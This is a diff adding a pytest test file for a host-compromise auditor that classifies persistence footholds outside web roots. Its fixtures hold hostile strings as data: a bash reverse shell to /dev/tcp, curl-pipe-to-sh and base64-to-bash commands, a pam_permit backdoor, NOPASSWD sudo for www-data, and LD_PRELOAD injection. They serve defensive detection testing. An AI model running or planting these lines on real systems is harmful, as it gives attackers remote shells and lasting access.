@@ -1,0 +1,185 @@
+"""What the places outside the web roots come to, and what a host says of them that no module of ours has said."""
+
+from __future__ import annotations
+
+import base64
+import json
+import time
+import zlib
+from typing import Any, get_args
+
+import pytest
+
+from auditor.compromise import footholds, places, signs
+from auditor.compromise.listing import BadListing
+from auditor.compromise.places import Place, Slot
+from auditor.looks.traces import key_of
+from auditor.models.hunts import OUTSIDE
+
+SHM, TMP = "/dev/shm/x", "/tmp/x"  # noqa: S108 - never opened
+
+
+def place(slot: Slot, said: str = "", *marks: str, **changes: Any) -> Place:
+    told = {"slot": slot, "where": "/etc/x", "who": "root", "standing": "foreign", "said": said}
+    return Place(**{**told, "marks": frozenset(marks), "programs": (), **changes})
+
+
+def told(one: Place, before: tuple[str, ...] | None = None) -> tuple[str, str, tuple[str, ...]] | None:
+    found = footholds.found([one], before)
+    return (found[0].kind, found[0].certainty, found[0].rules) if found else None
+
+
+@pytest.mark.parametrize(
+    "one, sure, rule",
+    [
+        (place("cron", "* bash -i >& /dev/tcp/192.0.2.9/443 0>&1"), "exact", "connects_back"),
+        (place("cron", "echo aGk= | base64 -d | bash"), "exact", "runs_decoded"),
+        (place("unit", "curl -s http://192.0.2.9/x | sh"), "strong", "runs_fetched"),
+        (place("start", "export LD_PRELOAD=/usr/lib/x.so", standing="packaged"), "strong", "preloads"),
+        (place("hook", 'RUN+="/dev/shm/x"', programs=((SHM, "foreign"),)), "strong", "runs_temporary"),
+        (place("cron", "/usr/share/.x/y", programs=(("/usr/share/.x/y", "foreign"),)), "strong", "runs_hidden"),
+        (place("cron", "/opt/app/run"), "weak", "foreign"),
+        (place("generator", "#!/bin/sh"), "strong", "foreign"),
+        (place("account", "0 /bin/bash", "second_root", "root", "shell"), "exact", "second_root"),
+        (place("account", "33 /bin/bash", "service", "shell", "password"), "strong", "service_logs_in"),
+        (place("key", "ssh-ed25519 SHA256:x", "service"), "strong", "key_of_service"),
+        (place("key", "ssh-ed25519 SHA256:x", "root"), "weak", "key"),
+        (place("sudo", "www-data ALL=(ALL) NOPASSWD: ALL", "service", who="www-data"), "strong", "service_may"),
+        (place("sshd", "authorizedkeysfile /dev/shm/k", standing="packaged"), "strong", "keys_elsewhere"),
+        (place("pam", "auth sufficient pam_permit.so", "opens"), "exact", "login_lets_all"),
+        (place("pam_module", ""), "strong", "foreign"),
+        (place("preload", "/usr/lib/x.so"), "exact", "preloaded"),
+        (place("preload", "/usr/lib/x.so", standing="packaged"), "weak", "preloaded"),
+        (place("php", "auto_prepend_file=/tmp/x", programs=((TMP, "foreign"),)), "strong", "prepends_odd"),
+        (place("php_module", "extension=/usr/local/x.so"), "strong", "foreign"),
+        (place("database", "x.so", "function"), "strong", "foreign_function"),
+        (
+            place("database", "SELECT 1 INTO OUTFILE '/srv/x.php'", "event", standing="packaged"),
+            "strong",
+            "writes_from_sql",
+        ),
+        (place("setuid", "0o4755", "setuid", where="/usr/bin/x"), "strong", "foreign"),
+        (place("setuid", "0o4755", "setuid", where="/opt/app/sandbox"), "weak", "foreign"),
+        (place("setuid", "0o4755", "setuid", "shell", where="/opt/app/x"), "exact", "shell_of_root"),
+        (
+            place("setuid", "", "capabilities", where="/usr/bin/python3.13", standing="packaged"),
+            "strong",
+            "interpreter_of_root",
+        ),
+        (place("program", standing="changed"), "strong", "changed"),
+        (place("process", "", "memory", where="/memfd:x", standing="gone"), "strong", "from_memory"),
+        (place("process", "[kworker/0:1]", "as_kernel", where="/opt/x"), "exact", "poses_as_kernel"),
+        (place("process", "", where=SHM), "strong", "from_temporary"),
+        (place("process", "", where="/opt/app/x"), "weak", "foreign"),
+        (
+            place("process", "", "shell_on_socket", where="/usr/bin/bash", standing="packaged"),
+            "exact",
+            "shell_on_socket",
+        ),
+        (place("listener", "tcp *:4444"), "weak", "foreign"),
+        (place("listener", "packets", "packets"), "strong", "reads_packets"),
+        (place("kernel_module", "", "loaded"), "strong", "loaded"),
+        (place("temporary", "", "elf", "executable", "hidden"), "strong", "hidden_program"),
+        (place("temporary", "", "script", "executable"), "weak", "program"),
+    ],
+)
+def test_each_foothold_is_told_for_what_it_is(one: Place, sure: str, rule: str) -> None:
+    found = told(one)
+    assert found is not None
+    assert (found[0], found[1]) == (footholds.KINDS[one.slot], sure)
+    assert rule in found[2]
+
+
+@pytest.mark.parametrize(
+    "one",
+    [
+        place("start", "alias sudo='sudo '\nexport EDITOR=vim", standing="packaged"),
+        place("cron", "cd / && run-parts --report /etc/cron.hourly", standing="changed"),
+        place("account", "33 /usr/sbin/nologin", "service", standing="packaged"),
+        place("account", "1000 /bin/bash", "shell", "password", "root", standing="packaged"),
+        place("sshd", "authorizedkeysfile .ssh/authorized_keys /etc/ssh/keys/%u", standing="packaged"),
+        place("database", "UPDATE counters SET n = n + 1", "event", standing="packaged"),
+        place("hook", 'DPkg::Post-Invoke { "curl -s http://x/y > /var/log/y"; };', standing="packaged"),
+    ],
+)
+def test_what_administrators_write_is_no_trace(one: Place) -> None:
+    assert told(one) is None
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl -fsS https://example.test/ping > /dev/null",
+        "mysqldump --all-databases | gzip > /var/backups/db.gz",
+        "find /var/www -name '*.tmp' -delete; chmod 0755 /srv/x",
+        "tar cz /etc | base64 > /root/etc.b64",
+        "python3 -m http.server",
+        "su -c 'php /var/www/site/cron.php' www-data",
+    ],
+)
+def test_what_jobs_do_everywhere_is_no_sign(line: str) -> None:
+    assert list(signs.in_text(line)) == []
+
+
+def test_a_text_made_to_hurt_costs_no_more_than_its_length() -> None:
+    began = time.process_time()
+    for piece in ("curl ", "base64 |", "socket ", "sh $(", "/a", "eval ", "nc -", "export LD_PRELOAD ", "alias "):
+        list(signs.in_text(piece * (20_000 // len(piece))))
+        list(signs.in_text("\n".join([piece * 50] * 60)))
+        signs.odd(piece * 200)
+    assert time.process_time() - began < 5
+
+
+def test_a_key_of_root_that_was_not_there_before_is_an_alarm_and_any_other_news_is_marked() -> None:
+    key, job = place("key", "ssh-ed25519 SHA256:x from=*", "root"), place("cron", "/opt/app/run")
+    assert told(key, ()) == ("key", "strong", ("key", "new"))
+    assert told(job, ()) == ("job", "weak", ("foreign", "new"))
+    (trace,) = footholds.found([key])
+    assert told(key, (trace.key,)) == ("key", "weak", ("key",))
+    assert trace.key == key_of("key", "key\n/etc/x\nroot\nssh-ed25519 SHA256:x")
+
+
+def test_every_slot_has_a_kind_that_controls_ask_for() -> None:
+    assert set(footholds.KINDS) == set(get_args(Slot))
+    assert set(footholds.KINDS.values()) == OUTSIDE
+
+
+def row(**changes: Any) -> list[Any]:
+    told = {"slot": "cron", "where": "/etc/x", "who": "root", "standing": "foreign", "said": "x", "marks": []}
+    return list({**told, "programs": [["/opt/x", "foreign"]], **changes}.values())
+
+
+def said(**changes: Any) -> str:
+    told = {"rows": [row()], "seen": 1, "cut_short": [], "seconds": 1.0, "processor": 0.5, **changes}
+    return base64.b64encode(zlib.compress(json.dumps(told).encode("ascii"))).decode()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        None,
+        "????",
+        said(rows=[row(slot="x")]),
+        said(rows=[row(where="ă")]),
+        said(rows=[row(standing="fine")]),
+        said(rows=[row(said="x" * 30_000)]),
+        said(rows=[row(marks=["A"])]),
+        said(rows=[row(programs=[["/x"]])]),
+        said(rows=[row()[:4]]),
+        said(seen=-1),
+        said(cut_short=["x y"]),
+        said(rows=7),
+    ],
+)
+def test_a_host_that_answers_with_nonsense_is_not_believed(text: object) -> None:
+    with pytest.raises(BadListing):
+        places.places(text)
+
+
+def test_places_are_taken_in_as_they_were_said() -> None:
+    found = places.places(said(rows=[row(where="/etc/a\n\xff", marks=["setuid"])], cut_short=["files", "files"]))
+    assert found.all[0].where == "/etc/a\n\udcff"
+    assert found.all[0].marks == {"setuid"}
+    assert found.cut_short == ("files",)
+    (trace,) = footholds.found(found.all)
+    assert "\n" not in trace.where
